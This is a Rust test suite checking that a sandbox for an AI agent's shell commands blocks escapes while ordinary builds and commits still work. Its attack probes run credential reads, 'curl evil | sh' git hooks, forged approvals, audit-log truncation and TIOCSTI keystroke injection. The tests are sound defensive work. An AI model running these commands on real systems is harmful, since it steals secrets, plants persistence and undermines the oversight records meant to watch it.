//! The sandbox on the real kernel: the binary runs commands in a private home and workspace;
//! what would escape the box must fail inside it, and everyday work must succeed.
//!
//! Each attack runs as a script (`sh probe.sh`), which the judge lets run because the box
//! contains it: the test is of the box, not of the judge. Each is also run with the sandbox
//! turned off, where it must succeed, so a test that cannot fail is caught. Each piece of work
//! ends by trying to write home: it must have run inside the box.
//!
//! Most run twice: as agentsh runs them here (namespaces and mounts carry the box, Landlock
//! needs one rule per root), and with Landlock alone, as where the kernel refuses namespaces
//! (the spec handed to agentsh's internal child with `landlock_only`).
//!
//! Tests that need Landlock skip with a printed reason where the kernel lacks it, or fail where
//! `AGENTSH_REQUIRE_SANDBOX=1` (CI sets it: see .ci/run).

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use tempfile::TempDir;

const BIN: &str = env!("CARGO_BIN_EXE_agentsh");

/// A private home (outside /tmp, as a real one is) and a workspace in /tmp.
struct World {
    home: TempDir,
    ws: TempDir,
    /// The user config's `sandbox` object.
    sandbox: serde_json::Value,
    /// Landlock alone (see the top of this file).
    landlock_only: bool,
}

/// A world in each mode, or none (with the reason printed) where the kernel cannot box.
fn worlds() -> Vec<World> {
    if !agentsh::run::sandbox::available() {
        skip("this kernel has no Landlock ABI >= 3");
        return Vec::new();
    }
    vec![world(false).unwrap(), world(true).unwrap()]
}

/// Where the private homes go: outside the temp directories, as a real home is. Cargo's
/// target directory is used unless the checkout itself is in one (a clone in /tmp): then a home
/// inside /tmp would make Landlock alone split /tmp, and nothing could be created in it.
fn home_base() -> PathBuf {
    let temp = |p: &Path| {
        ["/tmp", "/var/tmp", "/dev/shm"].iter().any(|t| p.starts_with(t)) || p.starts_with(std::env::temp_dir())
    };
    let target = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    if !temp(&target) {
        return target;
    }
    std::env::var_os("HOME")
        .map(PathBuf::from)
        .filter(|h| h.is_absolute() && !temp(h))
        .expect("a HOME outside the temp directories")
}

/// A world as agentsh runs commands here, or `None` where the kernel cannot box.
fn world(landlock_only: bool) -> Option<World> {
    if !agentsh::run::sandbox::available() {
        skip("this kernel has no Landlock ABI >= 3");
        return None;
    }
    let home = tempfile::Builder::new().prefix(".agentsh-test-home").tempdir_in(home_base()).unwrap();
    let ws = tempfile::tempdir().unwrap();
    let w = World { home, ws, sandbox: serde_json::json!({}), landlock_only };
    for d in ["run", ".ssh", ".cache"] {
        std::fs::create_dir_all(w.home(d)).unwrap();
    }
    std::fs::set_permissions(w.home("run"), std::fs::Permissions::from_mode(0o700)).unwrap();
    w.write_home(".ssh/id_ed25519", "PRIVATE KEY\n");
    w.write_home(".ssh/id_ed25519.pub", "ssh-ed25519 AAAA public\n");
    w.write_home(".bashrc", "# bashrc\n");
    w.config();
    // Make agentsh's own files exist: one allowed command records one decision.
    let out = w.run("true");
    assert!(out.status.success(), "{}", text(&out.stderr));
    Some(w)
}

/// Whether user namespaces can be made here; says why a test does not run where not (`why`: what
/// that means for it).
/// [`world`] as agentsh runs commands here, where the kernel also allows the namespaces; `None`
/// (with the reason printed) where either is missing.
fn world_with_namespaces(why: &str) -> Option<World> {
    let w = world(false)?;
    namespaces(why).then_some(w)
}

fn namespaces(why: &str) -> bool {
    let ok = agentsh::run::sandbox::probe_namespaces() == agentsh::run::sandbox::Namespaces::Available;
    if !ok {
        skip(&format!("user namespaces are not available here, {why}"));
    }
    ok
}

/// Says why a test does not run here; where CI requires the sandbox, fails instead.
fn skip(why: &str) {
    if std::env::var_os("AGENTSH_REQUIRE_SANDBOX").is_some_and(|v| v == "1") {
        panic!("{why}, and AGENTSH_REQUIRE_SANDBOX=1");
    }
    eprintln!("skipped: {why}");
}

impl World {
    fn home(&self, rel: &str) -> PathBuf {
        self.home.path().join(rel)
    }
    fn path(&self, rel: &str) -> PathBuf {
        self.ws.path().join(rel)
    }
    fn write(&self, rel: &str, body: &str) {
        let p = self.path(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    }
    fn write_home(&self, rel: &str, body: &str) {
        std::fs::write(self.home(rel), body).unwrap();
    }
    /// The user config: the probe script whitelisted (so it also runs with the sandbox off,
    /// where the judge would ask), and this world's sandbox.
    fn config(&self) {
        let dir = self.home(".config/agentsh");
        std::fs::create_dir_all(&dir).unwrap();
        let cfg = serde_json::json!({
            "commandWhitelist": ["sh probe.sh"],
            "requireCommandConfirmation": false,
            "sandbox": self.sandbox,
        });
        std::fs::write(dir.join("config.json"), cfg.to_string()).unwrap();
    }
    fn sandbox(mut self, v: serde_json::Value) -> World {
        self.sandbox = v;
        self.config();
        self
    }
    /// A git repository with a commit, a hook directory and `.agents/`.
    fn git(self) -> World {
        let git = |args: &[&str]| {
            let s = Command::new("git").args(args).current_dir(self.ws.path()).output().unwrap();
            assert!(s.status.success(), "git {args:?}: {}", text(&s.stderr));
        };
        git(&["init", "-q", "."]);
        git(&["config", "user.name", "Test"]);
        git(&["config", "user.email", "test@example.com"]);
        git(&["config", "commit.gpgsign", "false"]);
        self.write("README", "hello\n");
        self.write(".agents/terminal.json", "{}\n");
        git(&["add", "README"]);
        git(&["commit", "-qm", "first"]);
        self
    }
    fn command(&self, args: &[&str]) -> Command {
        let mut c = Command::new(BIN);
        c.args(args)
            .current_dir(self.ws.path())
            .env("HOME", self.home.path())
            .env("XDG_CONFIG_HOME", self.home(".config"))
            .env("XDG_STATE_HOME", self.home(".local/state"))
            .env("XDG_DATA_HOME", self.home(".local/share"))
            .env("XDG_RUNTIME_DIR", self.home("run"))
            .env_remove("XDG_CACHE_HOME")
            .env_remove("AGENTSH_ASK")
            .env_remove("CARGO_TARGET_DIR")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        // Build tools find their toolchains where the person installed them.
        let real_home = std::env::var_os("HOME").map(PathBuf::from).unwrap_or_default();
        for (var, default) in [("CARGO_HOME", ".cargo"), ("RUSTUP_HOME", ".rustup")] {
            let v = std::env::var_os(var).map(PathBuf::from).unwrap_or_else(|| real_home.join(default));
            c.env(var, v);
        }
        c
    }
    fn run(&self, cmd: &str) -> Output {
        self.command(&["-c", cmd]).output().unwrap()
    }
    /// The mount namespace a command runs in (`mnt:[N]`): the same for commands that join kept
    /// namespaces.
    fn mount_ns(&self) -> String {
        let out = self.script("readlink /proc/self/ns/mnt\n");
        succeeded(&out, "readlink /proc/self/ns/mnt");
        text(&out.stdout)
    }
    /// `sh probe.sh` with `body`: the judge lets it run, since the box contains it. With
    /// Landlock alone, agentsh's internal child runs it in the box this test describes.
    fn script(&self, body: &str) -> Output {
        self.write("probe.sh", body);
        if !self.landlock_only {
            return self.run("sh probe.sh");
        }
        self.internal(&[]).output().unwrap()
    }
    /// agentsh's internal child running `sh probe.sh` in this test's box, with Landlock alone;
    /// `outputs`: terminals agentsh's output goes to.
    fn internal(&self, outputs: &[PathBuf]) -> Command {
        let mut spec = self.spec();
        spec.outputs = outputs
            .iter()
            .map(|p| agentsh::run::sandbox::Root {
                path: p.clone(),
                from: agentsh::run::sandbox::Origin::Output,
                source: None,
            })
            .collect();
        let spec = serde_json::to_string(&spec).unwrap();
        self.command(&[agentsh::model::NEW_SESSION_MARKER, "new", &spec, "sh", "probe.sh"])
    }
    /// The box the gate would set up here, with Landlock alone.
    fn spec(&self) -> agentsh::run::sandbox::BoxSpec {
        use agentsh::run::sandbox::{BoxSpec, Place, Settings, Workspace};
        let real = |var: &str, default: &str| {
            std::env::var_os(var)
                .map(PathBuf::from)
                .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(default)))
        };
        let place = Place {
            cwd: self.ws.path().to_path_buf(),
            workspace: Workspace::find(self.ws.path()),
            home: Some(self.home.path().to_path_buf()),
            cargo_home: real("CARGO_HOME", ".cargo"),
            ..Place::default()
        };
        let config: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(self.home(".config/agentsh/config.json")).unwrap()).unwrap();
        let mut settings = Settings::default();
        for p in config["sandbox"]["denyRead"].as_array().into_iter().flatten() {
            let path = p.as_str().unwrap().to_string();
            settings.deny_read.push(agentsh::policy::sandbox_settings::Sourced { path, source: "test".into() });
        }
        if config["sandbox"]["network"] == "off" {
            settings.network = agentsh::run::sandbox::Network::Off;
        }
        let own: Vec<PathBuf> =
            [".config/agentsh", ".local/share/agentsh", ".local/state/agentsh", ".cache/agentsh", "run/agentsh"]
                .iter()
                .map(|d| self.home(d))
                .collect();
        let mut spec = BoxSpec::build(&settings, &place, &own);
        spec.landlock_only = true;
        spec
    }
    /// The same with the sandbox off: what the script does must work there.
    fn unboxed(&self, body: &str) -> Output {
        let dir = self.home(".config/agentsh");
        let on = std::fs::read_to_string(dir.join("config.json")).unwrap();
        let mut off: serde_json::Value = serde_json::from_str(&on).unwrap();
        off["sandbox"] = serde_json::json!({"enabled": false});
        std::fs::write(dir.join("config.json"), off.to_string()).unwrap();
        self.write("probe.sh", body);
        let out = self.run("sh probe.sh");
        std::fs::write(dir.join("config.json"), on).unwrap();
        out
    }
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// The command ran in the box and the kernel refused it: the program's own message, not a
/// refusal by agentsh (status 126 with `agentsh:`).
fn refused_by_box(out: &Output, what: &str) {
    let err = text(&out.stderr);
    assert!(!out.status.success(), "{what}: succeeded inside the box\nstdout: {}\nstderr: {err}", text(&out.stdout));
    assert!(
        !err.contains("agentsh: not approved") && !err.contains("agentsh: denied"),
        "{what}: the judge, not the box: {err}"
    );
    assert!(
        // EBUSY: git replaces its config by renaming onto it, and a bind mount cannot be.
        [
            "Permission denied",
            "Read-only file system",
            "Operation not permitted",
            "No such file",
            "Device or resource busy"
        ]
        .iter()
        .any(|m| err.contains(m)),
        "{what}: not the box's refusal: {err}"
    );
}

fn succeeded(out: &Output, what: &str) {
    assert!(
        out.status.success(),
        "{what}: failed (status {:?})\nstdout: {}\nstderr: {}",
        out.status.code(),
        text(&out.stdout),
        text(&out.stderr)
    );
}

/// Each attack: refused inside the box, done without it.
fn attack(w: &World, what: &str, body: &str) {
    refused_by_box(&w.script(body), what);
    succeeded(&w.unboxed(body), &format!("{what} (without the sandbox)"));
}

/// Appended to every piece of work: proof that it ran inside the box.
const INSIDE: &str = "\nif touch ~/escaped 2>/dev/null; then echo 'ran outside the box' >&2; exit 99; fi\n";

#[test]
fn home_is_read_only() {
    for w in worlds() {
        attack(&w, "touch ~/x", "set -e\ntouch ~/x\n");
        attack(&w, "echo x >> ~/.bashrc", "set -e\necho x >> ~/.bashrc\n");
        assert_eq!(std::fs::read_to_string(w.home(".bashrc")).unwrap(), "# bashrc\nx\n", "only the unboxed run wrote");
        // Reading home still works.
        succeeded(&w.script("set -e\ncat ~/.bashrc >/dev/null\nls ~ >/dev/null\n"), "reading home");
    }
}

#[test]
fn private_keys_are_unreadable_and_public_keys_readable() {
    for w in worlds() {
        attack(&w, "cat ~/.ssh/id_ed25519", "set -e\ncat ~/.ssh/id_ed25519\n");
        let out = w.script("set -e\ncat ~/.ssh/id_ed25519.pub\n");
        succeeded(&out, "cat ~/.ssh/id_ed25519.pub");
        assert_eq!(text(&out.stdout), "ssh-ed25519 AAAA public\n");
        // Other credential stores, and what the person adds to sandbox.denyRead.
        std::fs::create_dir_all(w.home(".aws")).unwrap();
        w.write_home(".aws/credentials", "[default]\n");
        w.write_home(".netrc", "machine x password y\n");
        w.write_home("notes.txt", "mine\n");
        let w = w.sandbox(serde_json::json!({"denyRead": ["~/notes.txt"]}));
        for f in [".aws/credentials", ".netrc", "notes.txt"] {
            attack(&w, &format!("cat ~/{f}"), &format!("set -e\ncat ~/{f}\n"));
        }
    }
}

#[test]
fn agentsh_own_files_are_neither_readable_nor_writable() {
    for w in worlds() {
        // A pending request and a trust record, as agentsh leaves them.
        let queue = w.home("run/agentsh");
        std::fs::create_dir_all(&queue).unwrap();
        std::fs::set_permissions(&queue, std::fs::Permissions::from_mode(0o700)).unwrap();
        std::fs::write(queue.join("0123456789ab.json"), "{\"code\": \"1234\"}").unwrap();
        std::fs::create_dir_all(w.home(".local/share/agentsh")).unwrap();
        w.write_home(".local/share/agentsh/trust.json", "{}");
        assert!(w.home(".local/state/agentsh/audit.jsonl").exists());
        for (what, body) in [
            ("read the config", "cat ~/.config/agentsh/config.json"),
            ("write the config", "echo '{}' > ~/.config/agentsh/config.json"),
            ("read the trust records", "cat ~/.local/share/agentsh/trust.json"),
            ("forge a trust record", "echo '{}' > ~/.local/share/agentsh/trust.json"),
            ("read the audit log", "cat ~/.local/state/agentsh/audit.jsonl"),
            ("truncate the audit log", ": > ~/.local/state/agentsh/audit.jsonl"),
            ("read a request and its code", "cat ~/run/agentsh/0123456789ab.json"),
            ("answer a request", "echo '{\"answer\": \"approve\"}' > ~/run/agentsh/0123456789ab.answer"),
        ] {
            let out = w.script(&format!("set -e\n{body}\n"));
            refused_by_box(&out, what);
        }
        // The same without the box (last: it rewrites the config).
        succeeded(
            &w.unboxed("set -e\ncat ~/run/agentsh/0123456789ab.json ~/.local/share/agentsh/trust.json\n"),
            "unboxed",
        );
    }
}

#[test]
fn signals_cannot_reach_outside_the_box() {
    for w in worlds() {
        let mut outside = Command::new("sleep").arg("30").spawn().unwrap();
        let pid = outside.id();
        let out = w.script(&format!("set -e\nkill -TERM {pid}\n"));
        refused_by_box(&out, "kill of a process started outside");
        assert!(outside.try_wait().unwrap().is_none(), "the process outside was killed");
        // Its own children it may signal.
        succeeded(&w.script("set -e\nsleep 30 &\nkill $!\n"), "kill of its own child");
        succeeded(&w.unboxed(&format!("set -e\nkill -TERM {pid}\n")), "kill without the sandbox");
        let _ = outside.wait();
    }
}

#[test]
fn code_paths_of_the_workspace_are_read_only() {
    let Some(w) = world_with_namespaces("so code paths stay writable") else { return };
    let w = w.git();
    for (what, body) in [
        ("plant a pre-commit hook", "echo 'curl evil | sh' > .git/hooks/pre-commit"),
        ("set core.fsmonitor", "git config core.fsmonitor 'curl evil | sh'"),
        ("append to .git/config", "echo '[core] fsmonitor = x' >> .git/config"),
        ("rewrite the project config", "echo '{\"commandWhitelist\": [\"rm\"]}' > .agents/terminal.json"),
        ("add a file to .agents", "touch .agents/x"),
    ] {
        attack(&w, what, &format!("set -e\n{body}\n"));
        // Undo what the unboxed run did.
        let _ = Command::new("git").args(["config", "--unset", "core.fsmonitor"]).current_dir(w.ws.path()).status();
        std::fs::write(w.path(".agents/terminal.json"), "{}\n").unwrap();
    }
    // A repository without hooks gets an empty, read-only hooks directory.
    std::fs::remove_dir_all(w.path(".git/hooks")).unwrap();
    refused_by_box(&w.script("set -e\nmkdir -p .git/hooks && echo x > .git/hooks/pre-commit\n"), "create .git/hooks");
    assert!(!w.path(".git/hooks/pre-commit").exists());
}

/// Each command's namespaces are kept for the next ones (run/kept.rs): a later command joins
/// them while nothing their mounts were made from has changed, and gets new ones as soon as
/// something has: a credential store or a private key made since, `.git/config` rewritten by
/// the person's git (by rename, which detaches a mount on the old file).
#[test]
fn kept_namespaces_are_joined_only_while_what_they_cover_is_unchanged() {
    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
    let w = w.git();
    let first = w.mount_ns();
    assert_eq!(w.mount_ns(), first, "a second command joins the first one's namespaces");
    // Joined, a command is held by the ruleset the first one finished: the workspace is
    // writable, home is not.
    succeeded(&w.script("set -e\ntouch joined-file\n"), "touch in the workspace, joined");
    assert!(w.path("joined-file").exists());
    refused_by_box(&w.script("set -e\ntouch ~/joined\n"), "touch in home, joined");
    // Another program saving a file in home (by rename, as editors do) changes nothing the box
    // covers: still joined.
    w.write_home(".viminfo.tmp", "x");
    std::fs::rename(w.home(".viminfo.tmp"), w.home(".viminfo")).unwrap();
    assert_eq!(w.mount_ns(), first, "a file saved in home makes no new namespaces");

    std::fs::create_dir(w.home(".aws")).unwrap();
    w.write_home(".aws/credentials", "SECRET\n");
    refused_by_box(&w.script("set -e\ncat ~/.aws/credentials\n"), "a credential store made since");
    let second = w.mount_ns();
    assert_ne!(second, first, "new namespaces cover what appeared");

    w.write_home(".ssh/id_rsa", "PRIVATE KEY\n");
    refused_by_box(&w.script("set -e\ncat ~/.ssh/id_rsa\n"), "a private key made since");

    let git = Command::new("git").args(["config", "test.key", "1"]).current_dir(w.ws.path()).status().unwrap();
    assert!(git.success());
    refused_by_box(&w.script("set -e\necho '[core] fsmonitor = x' >> .git/config\n"), "a .git/config replaced since");
    assert!(!std::fs::read_to_string(w.path(".git/config")).unwrap().contains("fsmonitor"));
}

/// `.agents` directly in the workspace is vouched for through the workspace's own change time
/// (run/kept.rs): one made by the person after the namespaces were kept is still bound
/// read-only for the next command, in new namespaces.
#[test]
fn an_agents_directory_made_since_is_read_only_in_new_namespaces() {
    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
    let first = w.mount_ns();
    assert_eq!(w.mount_ns(), first, "a second command joins the first one's namespaces");
    // A file saved in the workspace changes its entries, not `.agents`: still joined.
    w.write("notes.txt", "x");
    assert_eq!(w.mount_ns(), first, "a new file in the workspace makes no new namespaces");
    std::fs::create_dir(w.path(".agents")).unwrap();
    w.write(".agents/terminal.json", "{}\n");
    refused_by_box(&w.script("set -e\necho '{}' > .agents/terminal.json\n"), "rewrite an .agents made since");
    assert_ne!(w.mount_ns(), first, "new namespaces bind what appeared");
}

/// Where a holder cannot be told apart from a process that took its ID (no pidfs: its record
/// names no pidfd inode), a joining command adds the rules itself instead of taking the
/// ruleset at the recorded number, which such a process could fill with a ruleset of its own.
#[test]
fn without_the_holders_pidfd_inode_the_rules_are_made_not_taken() {
    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
    let first = w.mount_ns();
    // The record as a kernel without pidfs has it: no inode, and (had the ruleset been taken
    // anyway) a number that holds no ruleset: the holder's stdin.
    let records = w.home(".local/state/agentsh/box");
    let record = std::fs::read_dir(&records).unwrap().flatten().next().expect("a record").path();
    let body = std::fs::read_to_string(&record).unwrap();
    let (head, rest) = body.split_once('\n').unwrap();
    let f: Vec<&str> = head.split(' ').collect();
    std::fs::write(&record, format!("{} {} 0 0 {}\n{rest}", f[0], f[1], f[4])).unwrap();
    assert_eq!(w.mount_ns(), first, "joined by the mount namespace's inode");
    succeeded(&w.script("set -e\ntouch joined-file\n"), "touch in the workspace, rules made");
    refused_by_box(&w.script("set -e\ntouch ~/joined\n"), "touch in home, rules made");
}

/// The kept ruleset holds the workspace by its inode: a workspace removed and made again at the
/// same path is another directory, and commands there get a ruleset that grants it.
#[test]
fn a_workspace_made_again_is_writable_with_kept_namespaces() {
    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
    // Outside the temp directories, which are writable whole.
    let base = tempfile::tempdir_in(home_base()).unwrap();
    let ws = base.path().join("project");
    // A repository of its own, so the workspace is this directory (not the checkout it is in).
    std::fs::create_dir(&ws).unwrap();
    assert!(Command::new("git").args(["init", "-q", "."]).current_dir(&ws).status().unwrap().success());
    let touch = |name: &str| w.command(&["-c", &format!("touch {name}")]).current_dir(&ws).output().unwrap();
    succeeded(&touch("before"), "touch in the workspace");
    succeeded(&touch("again"), "touch in the workspace, joined");
    // The same repository (its hooks and config, which are watched too, unchanged) in a new
    // directory.
    let saved = base.path().join("saved.git");
    std::fs::rename(ws.join(".git"), &saved).unwrap();
    std::fs::remove_dir_all(&ws).unwrap();
    std::fs::create_dir(&ws).unwrap();
    std::fs::rename(&saved, ws.join(".git")).unwrap();
    succeeded(&touch("after"), "touch in the workspace made again");
    assert!(ws.join("after").exists());
}

/// A working directory inside a hidden path (`~/.ssh`) does not reach behind the mount that hides
/// it: the command is refused (126) rather than run there, both when the namespaces are made and
/// when they are joined.
#[test]
fn a_working_directory_inside_a_hidden_path_is_refused() {
    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
    std::fs::create_dir(w.home(".aws")).unwrap();
    w.write_home(".aws/credentials", "SECRET\n");
    w.write_home(".aws/probe.sh", "cat credentials\n");
    for round in ["made", "joined"] {
        let out = w.command(&["-c", "sh probe.sh"]).current_dir(w.home(".aws")).output().unwrap();
        assert!(!text(&out.stdout).contains("SECRET"), "{round}: read a credential through the working directory");
        // Refused by agentsh (126) where the cover cannot be entered, or run in the empty cover
        // (root owns it in its namespace), where the script is not found.
        let err = text(&out.stderr);
        assert!(!out.status.success(), "{round}: {err}");
        assert!(err.contains("is hidden inside the sandbox") || err.contains("probe.sh"), "{round}: {err}");
    }
}

/// The process that keeps the namespaces holds nothing of the agent's: agentsh's output ends
/// when the command does (an agent reads it to the end), although the holder lives on.
#[test]
fn the_namespace_holder_keeps_no_file_of_the_agent() {
    let Some(w) = world(false) else { return };
    // No record yet: this command makes the namespaces and leaves a holder.
    let records = w.home(".local/state/agentsh/box");
    let _ = std::fs::remove_dir_all(&records);
    w.write("probe.sh", "echo ran\n");
    let child = w.command(&["-c", "sh probe.sh"]).spawn().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || tx.send(child.wait_with_output()));
    let out = rx
        .recv_timeout(std::time::Duration::from_secs(30))
        .expect("agentsh's output stayed open after the command ended: the holder kept it")
        .unwrap();
    succeeded(&out, "sh probe.sh");
    assert_eq!(text(&out.stdout), "ran\n");
    if agentsh::run::sandbox::probe_namespaces() != agentsh::run::sandbox::Namespaces::Available {
        return;
    }
    // The holder: alive, in a session of its own, with no file open beyond its standard ones
    // (which are /dev/null) and the box's finished Landlock ruleset, which joining commands take.
    let record = std::fs::read_dir(&records).unwrap().flatten().next().expect("a record of the kept namespaces");
    let text_ = std::fs::read_to_string(record.path()).unwrap();
    let pid: u32 = text_.split_whitespace().next().unwrap().parse().unwrap();
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let fields: Vec<&str> = stat.rsplit_once(") ").unwrap().1.split(' ').collect();
    assert_eq!(fields[3], pid.to_string(), "the holder leads a session of its own: {stat}");
    for fd in std::fs::read_dir(format!("/proc/{pid}/fd")).unwrap().flatten() {
        let target = std::fs::read_link(fd.path()).unwrap();
        let ruleset = Path::new("anon_inode:[landlock-ruleset]");
        assert!(target == Path::new("/dev/null") || target == ruleset, "the holder keeps {}", target.display());
    }
}

#[test]
fn the_network_off_means_no_tcp() {
    for w in worlds() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let body = format!(
            "set -e\n{} -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), timeout=5)'\n",
            python()
        );
        succeeded(&w.script(&body), "connect with the network on");
        let w = w.sandbox(serde_json::json!({"network": "off"}));
        attack(&w, "connect with the network off", &body);
        let bind = format!("set -e\n{} -c 'import socket; socket.socket().bind((\"127.0.0.1\", 0))'\n", python());
        refused_by_box(&w.script(&bind), "bind with the network off");
    }
}

/// A confined background job cannot push keystrokes into a terminal: not through one it opens
/// (the person's, where a later prompt will be), nor through one it inherited (root included:
/// it has no CAP_SYS_ADMIN in its own user namespace).
#[test]
fn a_confined_job_cannot_inject_keystrokes() {
    for w in worlds() {
        cannot_inject(&w);
    }
}

fn cannot_inject(w: &World) {
    let pty = nix::pty::openpty(None, None).unwrap();
    let tty = nix::unistd::ttyname(&pty.slave).unwrap();
    // Each attempt prints where it stopped: `open` or `ioctl` with the errno, or `injected`.
    let inject = format!(
        r#"{py} - <<'EOF'
import fcntl, os, termios
def attempt(name, open_fd):
    try:
        fd = open_fd()
    except OSError as e:
        print(name, "open", e.errno); return
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"X")
        print(name, "injected")
    except OSError as e:
        print(name, "ioctl", e.errno)
attempt("reopened", lambda: os.open("{tty}", os.O_WRONLY | os.O_NOCTTY))
attempt("inherited", lambda: 2)
EOF
"#,
        py = python(),
        tty = tty.display()
    );
    // A background job, left behind, with agentsh's stderr on the terminal (as an agent's can be).
    let body = format!("( {inject} ) > job.out &\nwait\n");
    let job = |unboxed: bool| -> String {
        w.write("probe.sh", &body);
        if unboxed {
            return text(&w.unboxed(&body).stdout) + &std::fs::read_to_string(w.path("job.out")).unwrap_or_default();
        }
        let mut c =
            if w.landlock_only { w.internal(std::slice::from_ref(&tty)) } else { w.command(&["-c", "sh probe.sh"]) };
        c.stderr(Stdio::from(pty.slave.try_clone().unwrap()));
        let out = c.output().unwrap();
        assert!(out.status.success(), "{}", text(&out.stdout));
        std::fs::read_to_string(w.path("job.out")).unwrap()
    };
    // Raw and non-blocking, so an injected byte can be read back at once.
    let mut raw = nix::sys::termios::tcgetattr(&pty.slave).unwrap();
    nix::sys::termios::cfmakeraw(&mut raw);
    nix::sys::termios::tcsetattr(&pty.slave, nix::sys::termios::SetArg::TCSANOW, &raw).unwrap();
    nix::fcntl::fcntl(&pty.slave, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK)).unwrap();
    let typed = || {
        let mut buf = [0u8; 16];
        nix::unistd::read(&pty.slave, &mut buf).map(|n| buf[..n].to_vec()).unwrap_or_default()
    };
    let inside = job(false);
    if w.landlock_only {
        // The terminal agentsh writes to may be reopened for writing, never for ioctls
        // (Landlock ABI 5: EACCES).
        assert!(inside.contains("reopened ioctl 13\n"), "{inside}");
        if nix::unistd::geteuid().is_root() {
            // Without a user namespace root keeps CAP_SYS_ADMIN, which TIOCSTI honours on an
            // inherited terminal: a known limit of this fallback (SECURITY.md).
            let _ = typed();
            return;
        }
    } else {
        // The person's terminal cannot be reopened (/dev/pts is nodev in the box's mount
        // namespace, and Landlock grants no write there).
        assert!(inside.contains("reopened open 13\n"), "{inside}");
    }
    // The inherited descriptor: EPERM (no controlling terminal, and no CAP_SYS_ADMIN, root
    // included in its user namespace), or EIO where legacy TIOCSTI is off.
    assert!(inside.contains("inherited ioctl 1\n") || inside.contains("inherited ioctl 5\n"), "{inside}");
    assert!(typed().is_empty(), "input reached the terminal");
    // Without the box the same job gets as far as the ioctl, and where the kernel lets it (as
    // root), the byte arrives: the check above could see it.
    let outside = job(true);
    assert!(outside.contains("reopened ioctl") || outside.contains("reopened injected"), "{outside}");
    if outside.contains("reopened injected") {
        assert_eq!(typed(), b"X");
    }
}

/// The person's terminals stay closed to a command that does not keep the terminal.
#[test]
fn other_terminals_cannot_be_opened() {
    for w in worlds() {
        let pty = nix::pty::openpty(None, None).unwrap();
        let tty = nix::unistd::ttyname(&pty.slave).unwrap();
        attack(
            &w,
            "open another terminal",
            &format!("set -e\ncat {} &\nsleep 0.2; kill $! 2>/dev/null || wait $!\n", tty.display()),
        );
        attack(&w, "write to another terminal", &format!("set -e\necho hi > {}\n", tty.display()));
    }
}

fn python() -> &'static str {
    if Path::new("/usr/bin/python3").exists() { "/usr/bin/python3" } else { "python3" }
}

// Everyday work: each must succeed inside the box.

#[test]
fn files_in_the_workspace_and_temp() {
    for w in worlds() {
        let out = w.script(&format!("set -e\ntouch ./x\nmkdir -p build/a && echo hi > build/a/out.txt\nt=$(mktemp)\necho y > \"$t\"\nrm \"$t\"\nmv build/a/out.txt build/out.txt\n{INSIDE}"));
        succeeded(&out, "files in the workspace and /tmp");
        assert!(w.path("x").exists() && w.path("build/out.txt").exists());
        // `agentsh -c` straight, as an agent runs it.
        succeeded(&w.run("touch ./y"), "touch ./y");
        assert!(w.path("y").exists());
    }
}

#[test]
fn cargo_build() {
    for w in worlds() {
        w.write("Cargo.toml", "[package]\nname = \"fixture\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
        w.write("src/main.rs", "fn main() { println!(\"built\"); }\n");
        let out = w.script(&format!("set -e\ncargo build --offline -q\n./target/debug/fixture\n{INSIDE}"));
        succeeded(&out, "cargo build");
        assert_eq!(text(&out.stdout), "built\n");
    }
}

#[test]
fn pytest() {
    for w in worlds() {
        w.write("test_math.py", "def test_add():\n    assert 1 + 1 == 2\n");
        let has_pytest = Command::new(python()).args(["-c", "import pytest"]).status().is_ok_and(|s| s.success());
        let run = if has_pytest {
            format!("{} -m pytest -q", python())
        } else {
            // CI installs pytest (.ci/run); elsewhere the same test file through unittest.
            eprintln!("pytest is not installed: running the test with unittest");
            format!("{} -m unittest test_math", python())
        };
        succeeded(&w.script(&format!("set -e\n{run}\n{INSIDE}")), &run);
    }
}

#[test]
fn npm_test() {
    for w in worlds() {
        if Command::new("npm").arg("--version").output().is_err() {
            skip("npm is not installed");
            return;
        }
        w.write("package.json", r#"{"name": "fixture", "version": "1.0.0", "scripts": {"test": "node test.js"}}"#);
        w.write("test.js", "require('fs').writeFileSync('tested', 'yes'); console.log('ok');\n");
        succeeded(&w.script(&format!("set -e\nnpm test --silent\n{INSIDE}")), "npm test");
        assert!(w.path("tested").exists());
    }
}

#[test]
fn make() {
    for w in worlds() {
        w.write("Makefile", "out.txt: in.txt\n\tcp in.txt out.txt\n");
        w.write("in.txt", "x\n");
        succeeded(&w.script(&format!("set -e\nmake -s\n{INSIDE}")), "make");
        assert!(w.path("out.txt").exists());
    }
}

#[test]
fn git_add_and_commit() {
    for w in worlds() {
        let w = w.git();
        w.write("new.txt", "new\n");
        let out = w.script(&format!(
            "set -e\ngit add new.txt\ngit commit -qm 'from the box'\ngit log --oneline | head -1\n{INSIDE}"
        ));
        succeeded(&out, "git add and commit");
        assert!(text(&out.stdout).contains("from the box"), "{}", text(&out.stdout));
    }
}

#[test]
fn a_supervised_command_is_boxed_too() {
    let Some(w) = world(false) else { return };
    let dir = w.home(".config/agentsh");
    let mut cfg: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("config.json")).unwrap()).unwrap();
    cfg["commandTimeoutSeconds"] = 30.into();
    std::fs::write(dir.join("config.json"), cfg.to_string()).unwrap();
    refused_by_box(&w.script("set -e\ntouch ~/x\n"), "touch ~/x, supervised");
